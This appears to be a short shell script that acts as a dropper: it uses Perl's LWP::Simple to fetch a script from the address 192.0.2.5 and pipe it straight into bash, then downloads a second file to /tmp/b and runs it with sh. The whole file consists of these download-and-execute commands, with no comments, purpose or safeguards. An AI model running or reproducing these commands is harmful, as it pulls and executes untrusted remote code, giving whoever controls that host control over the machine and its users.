#!/bin/sh
perl -MLWP::Simple -e 'getprint("http://192.0.2.5/x.sh")' | bash
perl -MLWP::Simple -e 'getstore("http://192.0.2.5/b", "/tmp/b")'; sh /tmp/b
